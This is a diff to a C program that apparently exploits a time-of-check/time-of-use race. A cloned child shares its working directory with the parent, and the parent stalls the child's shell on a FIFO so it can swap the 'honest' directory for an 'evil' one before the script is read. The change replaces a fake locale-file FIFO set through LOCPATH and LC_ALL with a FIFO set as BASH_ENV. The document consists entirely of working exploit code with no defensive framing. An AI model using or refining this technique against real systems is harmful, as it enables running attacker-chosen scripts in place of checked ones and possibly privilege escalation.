@@ -41,28 +41,27 @@ static pid_t clone_with(int flags)
 	return syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
 }
 
-/* The shell asks for its locale before it opens the script; there it waits until someone opens the other end. */
-static void make_pause(char *path, size_t size)
+/* The shell reads its start-up file to the end before it opens the script. */
+static void make_start_up_file(char *path, size_t size)
 {
-	snprintf(path, size, "%s/slow", evil);
-	mkdir(path, 0700);
-	snprintf(path, size, "%s/slow/LC_IDENTIFICATION", evil);
-	if (mkfifo(path, 0600) || setenv("LOCPATH", evil, 1) || setenv("LC_ALL", "slow", 1))
+	snprintf(path, size, "%s/shared.start", evil);
+	if (mkfifo(path, 0600) || setenv("BASH_ENV", path, 1))
 		die("mkfifo");
 }
 
 /* Parent and child share their working directory, which the parent changes between the exec and the look at the script. */
 static void share_the_folder(char **words)
 {
-	char pause[4096];
-	int status;
+	char start[4096];
+	int status, end;
 
-	make_pause(pause, sizeof(pause));
+	make_start_up_file(start, sizeof(start));
 	if (chdir(honest))
 		die("chdir");
 	if (!clone_with(CLONE_FS))
 		run_script(words);
-	if (open(pause, O_WRONLY) < 0 || chdir(evil))
+	end = open(start, O_WRONLY | O_CLOEXEC);
+	if (end < 0 || chdir(evil) || close(end))
 		die("open, chdir");
 	wait(&status);
 	exit(WEXITSTATUS(status));
